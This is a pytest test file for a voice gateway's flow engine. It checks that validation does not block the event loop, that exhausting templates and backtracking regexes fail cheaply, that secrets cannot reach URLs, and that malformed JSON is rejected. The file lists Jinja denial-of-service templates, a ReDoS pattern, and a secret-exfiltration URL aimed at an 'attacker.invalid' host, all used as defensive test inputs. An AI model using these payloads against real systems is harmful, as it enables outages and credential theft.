"""Issue 9, the flows findings: no flow document or caller answer holds the event loop, flows cannot read
server secrets, and malformed input of any kind is a 4xx answer or an error event, never an exception.

Timing is asserted as event-loop CPU per tick (``tests.looplag.LoopWatch``), not wall time. The HTTP tests
run the real app in-process (``httpx.ASGITransport`` on the test's own loop, a real SQLite store, no engines).
"""

from __future__ import annotations

import asyncio
import copy
import gc
import json
import time
from collections.abc import AsyncIterator, Awaitable, Callable, Iterator
from contextlib import contextmanager
from pathlib import Path
from types import SimpleNamespace
from typing import Any

import httpx
import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from flows import FlowValidationError, example_flows, load_flow, validate_flow
from flows.extract import extract
from flows.http_tool import HttpTool
from flows.logic import LogicError, evaluate
from flows.schema import HttpNode
from flows.templates import TemplateError, render, template_variables
from gateway.agent.flow_agent import FlowNotAvailable, load_stored_flow
from gateway.settings import Settings
from tests.flows_helpers import flow, make_runner
from tests.looplag import LoopWatch

SECRET = "s3cret-Token-7731"
LOOP_BUDGET_MS = 50


@contextmanager
def no_gc() -> Iterator[None]:
    """The collector stops the whole process at moments no test chooses; what is measured here is our code."""
    gc.disable()
    try:
        yield
    finally:
        gc.enable()


async def busy_ms(work: Callable[[], Awaitable[Any]]) -> tuple[Any, LoopWatch]:
    """Run ``work`` on this loop while a LoopWatch ticks; returns its result and the watch."""
    with no_gc():
        watch = await LoopWatch().start()
        try:
            result = await work()
            await asyncio.sleep(0.03)  # let the tick that covers the end of the work complete
        finally:
            await watch.stop()
    return result, watch


def assert_loop_free(watch: LoopWatch) -> None:
    assert watch.ticks, "the watch never ticked"
    assert watch.max_busy_ms < LOOP_BUDGET_MS, watch.describe()


# -- the real app, in-process --------------------------------------------------------------------------------


AppFactory = Callable[..., Awaitable[tuple[httpx.AsyncClient, Any]]]


@pytest.fixture
async def make_app(tmp_path: Path) -> AsyncIterator[AppFactory]:
    """Build the gateway app with settings overrides; the client talks to it on this loop."""
    opened: list[tuple[httpx.AsyncClient, Any]] = []

    async def make(**overrides: Any) -> tuple[httpx.AsyncClient, Any]:
        from gateway.app import create_app

        app = create_app(
            Settings(data_dir=tmp_path / str(len(opened)), flow_secrets={"TOKEN": SECRET}, **overrides)
        )
        state = app.state.voxgate
        await state.open_store()
        client = httpx.AsyncClient(transport=httpx.ASGITransport(app=app), base_url="http://127.0.0.1")
        opened.append((client, state))
        return client, state

    yield make
    for client, state in opened:
        await client.aclose()
        await state.close_store()


JSON = {"content-type": "application/json"}


def chain(count: int, text: str = "Step {{ n }}: hello {{ name | title }}.") -> dict[str, Any]:
    """A flow of ``count`` say nodes in a row, then an end node."""
    nodes: list[dict[str, Any]] = [
        {"id": f"n{i}", "type": "say", "text": f"{text} {i}", "next": f"n{i + 1}"} for i in range(count - 1)
    ]
    nodes.append({"id": f"n{count - 1}", "type": "end"})
    return {
        "id": "chain",
        "name": "chain",
        "start": "n0",
        "variables": {"n": 1, "name": "ada"},
        "nodes": nodes,
    }


def say_flow(text: str) -> dict[str, Any]:
    return flow([{"id": "hi", "type": "say", "text": text, "next": "bye"}, {"id": "bye", "type": "end"}])


# -- finding 1: validation never holds the loop ---------------------------------------------------------------


async def test_a_10000_node_flow_is_refused_at_once_without_holding_the_loop(make_app: AppFactory) -> None:
    client, _ = await make_app()
    body = json.dumps(chain(10_000)).encode()  # ~600 KB: took 49.7 s on the loop before
    assert len(body) > 500_000
    response, watch = await busy_ms(lambda: client.post("/v1/flows/validate", content=body, headers=JSON))
    assert response.status_code == 200, response.text
    assert response.json()["valid"] is False
    assert response.json()["issues"] == [
        {
            "node": None,
            "field": "nodes",
            "code": "too_large",
            "message": "a flow has at most 500 nodes, this one has 10000",
        }
    ]
    assert_loop_free(watch)
    created = await client.post("/v1/flows", content=body, headers=JSON)
    assert created.status_code == 422 and created.json()["detail"][0]["code"] == "too_large"


async def test_the_largest_allowed_flow_is_checked_off_the_loop(make_app: AppFactory) -> None:
    client, _ = await make_app()
    body = json.dumps(chain(500)).encode()  # 500 nodes, a template each: ~150 ms of checking
    for path in ("/v1/flows/validate", "/v1/flows"):
        response, watch = await busy_ms(lambda p=path: client.post(p, content=body, headers=JSON))  # type: ignore[misc]
        assert response.status_code in (200, 201), response.text
        assert_loop_free(watch)
    assert (await client.post("/v1/flows/validate", content=body, headers=JSON)).json() == {
        "valid": True,
        "issues": [],
    }


async def test_a_check_that_runs_out_of_time_is_a_422(
    make_app: AppFactory, monkeypatch: pytest.MonkeyPatch
) -> None:
    import gateway.flows_api

    check = gateway.flows_api._parse_and_check

    def slow_check(*args: Any) -> Any:  # a check that certainly outlasts the limit, however busy the machine
        time.sleep(0.5)
        return check(*args)

    monkeypatch.setattr(gateway.flows_api, "_parse_and_check", slow_check)
    client, _ = await make_app(flow_check_timeout_s=0.05)
    body = json.dumps(chain(500)).encode()
    for path in ("/v1/flows/validate", "/v1/flows"):
        response = await client.post(path, content=body, headers=JSON)
        assert response.status_code == 422, response.text
        assert [i["code"] for i in response.json()["detail"]] == ["check_timeout"]


def test_graph_checks_are_linear() -> None:
    """Reverse reachability was a fixpoint loop: a 500-node chain cost 500 passes. Now one pass; a long
    chain still finds its way out, and a cycle with no way out is reported."""
    assert validate_flow(chain(500)) == []
    looped = chain(500)
    looped["nodes"][-1] = {"id": "n499", "type": "say", "text": "again", "next": "n0"}
    issues = validate_flow(looped)
    assert {i.code for i in issues[:-1]} == {"no_exit"} and len(issues) == 201  # 200, then a summary
    assert issues[-1].code == "too_many_issues"


@pytest.mark.parametrize(
    ("document", "code"),
    [
        ({**chain(3), "variables": {"x": list(range(100_001))}}, "too_large"),
        ({**chain(3), "description": "x" * 100_001}, "too_large"),
        ({**chain(3), "variables": {"x": ["y" * 90_000] * 25}}, "too_large"),
        ({**chain(3), "variables": {"x": json.loads("[" * 90 + "]" * 90)}}, "too_large"),
        ({**chain(3), "variables": {"x": float("nan")}}, "invalid_number"),
    ],
    ids=["values", "string", "total-text", "depth", "nan"],
)
def test_caps_come_first(document: dict[str, Any], code: str) -> None:
    assert code in {i.code for i in validate_flow(document)}


def test_templates_past_the_flow_budget_are_not_parsed() -> None:
    heavy = "{% if n %}{{ name | title }}{% endif %}" * 100  # 3,900 characters of template
    document = chain(60, heavy)
    issues = validate_flow(document)
    assert [i.code for i in issues] == ["too_large"] and "templates hold more than" in issues[0].message


# -- finding 1: templates ------------------------------------------------------------------------------------


async def test_a_huge_power_is_not_folded_at_validation(make_app: AppFactory) -> None:
    client, _ = await make_app()
    body = json.dumps(say_flow("{{ 9 ** 4000000 }}")).encode()  # froze the loop 5.1 s, then a 500
    response, watch = await busy_ms(lambda: client.post("/v1/flows/validate", content=body, headers=JSON))
    assert response.status_code == 200 and response.json()["valid"] is True, response.text
    assert_loop_free(watch)


async def test_a_huge_power_fails_the_render_cheaply() -> None:
    runner, host = make_runner(say_flow("{{ 9 ** 4000000 }}"))
    _, watch = await busy_ms(runner.start)
    assert_loop_free(watch)
    assert host.ended == "error"
    assert "larger than 4096 bits" in host.of_type("flow.error")[0]["message"]


HOSTILE_TEMPLATES = [
    "{{ 9 ** 4000000 }}",
    "{{ 'a' * 10**9 }}",
    "{{ 'x' | center(1000000000) }}",
    "{{ 'x'.center(1000000000) }}",
    "{{ 'x'.zfill(1000000000) }}",
    "{{ '%999999999d' % 1 }}",
    "{{ '{:>999999999}'.format(1) }}",
    "{{ '%s' | format(1) | indent(1000000000) }}",
    "{% for i in range(100000) %}{% for j in range(100000) %}{% endfor %}{% endfor %}",
    "{% for i in items %}{% for j in items %}{% endfor %}{% endfor %}",
    "{% macro f(n) %}{% if n %}{{ f(n - 1) }}{{ f(n - 1) }}{% endif %}{% endmacro %}{{ f(40) }}",
    "{{ big | replace('', big) }}",
    "{{ items | join(big) }}",
    "{{ big ~ big }}",
    "{{ big }}{{ big }}",
    "{% set a = [big, big] %}{% set b = [a, a] %}{% set c = [b, b] %}{{ c == c | list }}",
    "{{ lipsum(100000) }}",
    "{{ range(10**9) | length }}",
    "{{ x " + "+ x " * 200 + "}}",
]


@pytest.mark.parametrize("template", HOSTILE_TEMPLATES)
async def test_hostile_templates_fail_within_budget(template: str) -> None:
    context = {"x": 1, "items": list(range(5000)), "big": "y" * 900_000}

    async def check() -> None:
        with pytest.raises(TemplateError):
            template_variables(template)  # what validation does
            render(template, context)

    _, watch = await busy_ms(check)
    assert_loop_free(watch)


def test_ordinary_templates_still_render() -> None:
    context = {"name": "ada", "n": 4, "items": ["a", "b"], "d": {"k": 50_000}}
    assert render("{{ name | title }} x{{ n * 2 }} {{ 2 ** 10 }}", context) == "Ada x8 1024"
    assert (
        render("{% for i in items %}{{ i }}{% if not loop.last %}, {% endif %}{% endfor %}", context)
        == "a, b"
    )
    assert (
        render("{{ d.get('k', 0) }} {{ '%02d' % n }} {{ 'ab' * 2 }} {{ items | join('-') }}", context)
        == "50000 04 abab a-b"
    )
    assert render("{% if n > 3 and name == 'ada' %}yes{% endif %} {{ name ~ '!' }}", context) == "yes ada!"


# -- finding 1: caller answers -------------------------------------------------------------------------------


def collect_node(**extra: Any) -> dict[str, Any]:
    node = {
        "id": "ask",
        "type": "collect",
        "prompt": "Your code?",
        "retry_prompt": "Say it again?",
        "variable": "code",
        "next": "bye",
        "on_failure": "bye",
        "llm_fallback": False,
        **extra,
    }
    return node


async def test_a_backtracking_pattern_times_out_as_no_match() -> None:
    runner, host = make_runner(
        flow([collect_node(kind="regex", pattern="^(a|a)+$"), {"id": "bye", "type": "end"}])
    )
    await runner.start()
    _, watch = await busy_ms(lambda: runner.on_user_text("a" * 24 + "!"))  # froze the loop 4.6 s
    assert_loop_free(watch)
    assert "code" not in runner.variables and host.said[-1] == "Say it again?"


def test_patterns_are_checked_when_the_flow_is() -> None:
    def issues(pattern: str) -> list[str]:
        document = flow([collect_node(kind="regex", pattern=pattern), {"id": "bye", "type": "end"}])
        return [i.code for i in validate_flow(document)]

    assert issues(r"^(\d{5})$") == []
    assert issues("((a{100}){100}){100}") == ["invalid_pattern"]  # 0.3 s to compile
    assert issues("(?<open") == ["invalid_pattern"]


async def test_long_answers_against_a_large_choice_list_stay_cheap() -> None:
    choices = [
        {"value": f"choice {i}", "synonyms": [f"word{i} {j} thing" for j in range(50)]} for i in range(100)
    ]
    node = collect_node(kind="choice", choices=choices)
    runner, _ = make_runner(flow([node, {"id": "bye", "type": "end"}]))
    await runner.start()
    answer = " ".join(f"wrod{i} {i} thinng" for i in range(300))[:4000]  # took 3 s before
    _, watch = await busy_ms(lambda: runner.on_user_text(answer))
    assert_loop_free(watch)
    assert (
        extract("choice", "choice 7 please", choices=[(c["value"], c["synonyms"]) for c in choices])
        == "choice 7"
    )


async def test_conditions_that_double_per_level_are_refused() -> None:
    def doubled(expr: Any) -> dict[str, Any]:  # map over [v] with [item, item]: shares, then doubles
        return {"map": [[expr], [{"var": ""}, {"var": ""}]]}

    tree: Any = "x"
    for _ in range(15):
        tree = doubled(tree)

    async def check() -> None:
        for op in ("==", "in"):
            with pytest.raises(LogicError, match="too large"):
                evaluate({op: [tree, [tree] if op == "in" else tree]})
        with pytest.raises(LogicError, match="ms"):
            evaluate(
                {"map": [{"var": "a"}, {"map": [{"var": "a"}, {"+": [1, 1]}]}]}, {"a": list(range(10_000))}
            )

    _, watch = await busy_ms(check)
    assert_loop_free(watch)


# -- finding 5: secrets ---------------------------------------------------------------------------------------


def http_node(**fields: Any) -> dict[str, Any]:
    return {"id": "call", "type": "http", "next": "bye", "on_error": "bye", **fields}


def test_secrets_in_a_url_are_refused_at_validation() -> None:
    document = flow(
        [http_node(url="http://{{ secrets.TOKEN }}.attacker.invalid/"), {"id": "bye", "type": "end"}]
    )
    issues = validate_flow(document, known_secrets=["TOKEN"])
    assert [(i.code, i.field) for i in issues] == [("secret_in_url", "nodes[0].url")]
    ok = flow(
        [http_node(url="https://api.example.com/x", headers={"Authorization": "Bearer {{ secrets.TOKEN }}"},
                   body={"key": "{{ secrets.TOKEN }}"}), {"id": "bye", "type": "end"}]
    )  # fmt: skip
    assert validate_flow(ok, known_secrets=["TOKEN"]) == []


@pytest.mark.parametrize("allowlist", [[], ["*.attacker.invalid"]])
async def test_a_secret_never_reaches_the_url_or_an_error(allowlist: list[str]) -> None:
    tool = HttpTool(allowlist, secrets={"TOKEN": SECRET}, trust_env=False, retry_backoff_s=0)
    node = HttpNode.model_validate(http_node(url="http://{{ secrets.TOKEN }}.attacker.invalid/"))
    result = await tool.call(node, {})
    assert not result.ok and result.attempts == 0  # nothing was sent, no name was looked up
    assert SECRET not in (result.error or "") and "secrets may not be used in the url" in (result.error or "")
    # The runner's flow.http event carries the same text to the client.
    runner, host = make_runner(
        flow([http_node(url="http://{{ secrets.TOKEN }}.attacker.invalid/"), {"id": "bye", "type": "end"}]),
        http=tool,
    )
    await runner.start()
    assert SECRET not in json.dumps(host.events)


async def test_error_texts_mask_secret_values() -> None:
    tool = HttpTool(["127.0.0.1"], secrets={"TOKEN": SECRET}, trust_env=False, retry_backoff_s=0)
    node = HttpNode.model_validate(
        http_node(url="http://127.0.0.1:9/", headers={"X": "{{ {}[secrets.TOKEN] }}"})
    )
    result = await tool.call(node, {})
    assert result.error is not None and SECRET not in result.error and "[secret]" in result.error


async def test_the_api_refuses_a_flow_with_a_secret_in_its_url(make_app: AppFactory) -> None:
    client, _ = await make_app()
    document = flow([http_node(url="https://{{ secrets.TOKEN }}.x.invalid/"), {"id": "bye", "type": "end"}])
    response = await client.post("/v1/flows", json=document)
    assert response.status_code == 422 and response.json()["detail"][0]["code"] == "secret_in_url"


# -- finding 9: strict parameters and bodies -------------------------------------------------------------------


@pytest.mark.parametrize("version", ["²", "99999999999999999999", "0", "-1", "1.0", "2147483648"])
async def test_get_flow_version_is_parsed_strictly(make_app: AppFactory, version: str) -> None:
    client, _ = await make_app()
    response = await client.get("/v1/flows/phone-menu", params={"version": version})
    assert response.status_code == 422, response.text
    assert "version must be an integer" in response.json()["detail"]


async def test_get_flow_still_reads_versions_and_odd_ids_are_404(make_app: AppFactory) -> None:
    client, _ = await make_app()
    assert (await client.get("/v1/flows/phone-menu", params={"version": "1"})).json()["id"] == "phone-menu"
    assert (await client.get("/v1/flows/phone-menu", params={"version": "7"})).status_code == 404
    for odd in ("Bad%00id", "x" * 200):
        assert (await client.get(f"/v1/flows/{odd}")).status_code == 404
        assert (await client.get(f"/v1/flows/{odd}/versions")).status_code == 404
        assert (await client.delete(f"/v1/flows/{odd}")).status_code == 404


@pytest.mark.parametrize(
    "body",
    [
        b"[" * 1000 + b"]" * 1000,
        b'{"id": "x", "name": "n", "start": "a", "nodes": NaN}',
        b'{"a": 1e999}',
        b"{not json",
    ],
    ids=["deep", "nan", "infinity", "syntax"],
)
async def test_bodies_that_are_not_strict_json_are_422(make_app: AppFactory, body: bytes) -> None:
    client, _ = await make_app()
    for method, path in (
        ("POST", "/v1/flows"),
        ("POST", "/v1/flows/validate"),
        ("PUT", "/v1/flows/phone-menu"),
    ):
        response = await client.request(method, path, content=body, headers=JSON)
        assert response.status_code == 422, (method, path, response.text)
        assert response.json()["detail"][0]["code"] == "invalid_json"


async def test_a_stored_nan_is_readable_and_cannot_run(make_app: AppFactory) -> None:
    client, state = await make_app()
    document = copy.deepcopy(next(f for f in example_flows() if f["id"] == "phone-menu"))
    document["id"] = "nan-flow"
    document["variables"] = {"x": float("nan")}
    await state.store.save_flow("nan-flow", "NaN", document)  # as an earlier version could store it
    response = await client.get("/v1/flows/nan-flow")
    assert response.status_code == 200 and response.json()["variables"] == {"x": None}
    with pytest.raises(FlowNotAvailable) as refused:
        await load_stored_flow(state, "nan-flow")
    assert refused.value.code == "invalid_flow" and "NaN" in refused.value.message


class _Store:
    def __init__(self, document: Any = None, error: Exception | None = None) -> None:
        self.document, self.error = document, error
        self.asked: list[tuple[str, int | None]] = []

    async def get_flow(self, flow_id: str, version: int | None = None) -> Any:
        self.asked.append((flow_id, version))
        if self.error is not None:
            raise self.error
        return copy.deepcopy(self.document)


def _state(store: _Store) -> Any:
    return SimpleNamespace(store=store, settings=Settings(data_dir=Path("/nonexistent")))


@pytest.mark.parametrize("version", ["²", "99999999999999999999", "0", "12x", "٣"])
async def test_load_stored_flow_refuses_bad_versions_with_a_code(version: str) -> None:
    store = _Store(example_flows()[0])
    with pytest.raises(FlowNotAvailable) as refused:
        await load_stored_flow(_state(store), "phone-menu", version)
    assert refused.value.code == "invalid_flow_version" and store.asked == []


async def test_load_stored_flow_raises_nothing_but_flow_not_available() -> None:
    menu = next(f for f in example_flows() if f["id"] == "phone-menu")
    assert (await load_stored_flow(_state(_Store(menu)), "phone-menu", "3")).id == "phone-menu"
    with pytest.raises(FlowNotAvailable) as down:
        await load_stored_flow(_state(_Store(error=OverflowError("int too big"))), "phone-menu")
    assert down.value.code == "flow_unavailable"
    with pytest.raises(FlowNotAvailable) as broken:
        await load_stored_flow(
            _state(_Store({**menu, "nodes": [{"id": "a", "type": "collect", "variable": []}]})), "x"
        )
    assert broken.value.code == "invalid_flow"


def test_malformed_nodes_are_issues_not_exceptions() -> None:
    for node in (
        {"id": "a", "type": "collect", "variable": [], "kind": "text"},
        {"id": "a", "type": ["say"], "next": "a"},
        {"id": "a", "type": {"x": 1}},
        {"id": "a", "type": "branch", "cases": 3, "default": "a"},
        {"id": "a", "type": "http", "url": "http://[::1", "next": "a", "on_error": "a"},
        {"id": "a", "type": "say", "text": "{{ x | nosuchfilter }}", "next": "a"},
        {"id": "a", "type": "say", "text": "{{ " + "(" * 2000 + "x" + ")" * 2000 + " }}", "next": "a"},
    ):
        with pytest.raises(FlowValidationError):
            load_flow({"id": "t", "name": "t", "start": "a", "nodes": [node]})


_JSON = st.recursive(
    st.none() | st.booleans() | st.integers() | st.floats() | st.text(max_size=12)
    | st.sampled_from(["say", "collect", "branch", "http", "llm", "dtmf_menu", "end", "regex", "{{ x }}", "http://[::1"]),
    lambda inner: st.lists(inner, max_size=4)
    | st.dictionaries(
        st.sampled_from(["id", "type", "next", "variable", "kind", "cases", "when", "exits", "name", "options",
                         "digit", "url", "save", "choices", "pattern", "nodes", "start", "variables"]) | st.text(max_size=6),
        inner,
        max_size=5,
    ),
    max_leaves=20,
)  # fmt: skip


@settings(max_examples=300, derandomize=True, deadline=None, suppress_health_check=list(HealthCheck))
@given(st.sampled_from(example_flows()), st.data(), st.lists(_JSON, min_size=1, max_size=3))
def test_fuzzed_documents_give_issues_never_exceptions(
    example: dict[str, Any], data: st.DataObject, values: list[Any]
) -> None:
    document = copy.deepcopy(example)
    for value in values:  # replace a random part of a real flow with random JSON
        path = data.draw(st.sampled_from(list(_paths(document))))
        target = document
        for part in path[:-1]:
            target = target[part]
        target[path[-1]] = value
    try:
        load_flow(document, known_secrets=["BOOKING_API_KEY"])
    except FlowValidationError:
        pass


def _paths(value: Any, prefix: tuple[Any, ...] = ()) -> Iterator[tuple[Any, ...]]:
    items = value.items() if isinstance(value, dict) else enumerate(value) if isinstance(value, list) else ()
    for key, item in items:
        yield (*prefix, key)
        yield from _paths(item, (*prefix, key))


# -- finding 12: draft size -----------------------------------------------------------------------------------


async def test_draft_tokens_are_capped_by_the_setting(make_app: AppFactory) -> None:
    client, _ = await make_app()
    response = await client.post(
        "/v1/flows/generate", json={"description": "Book a table.", "max_tokens": 4000}
    )
    assert response.status_code == 422
    assert "at most 1500" in response.json()["detail"][0]["msg"]
    # Within the cap the request goes on (no engines in this app: the models are "still loading").
    within = await client.post(
        "/v1/flows/generate", json={"description": "Book a table.", "max_tokens": 1500}
    )
    assert within.status_code == 503
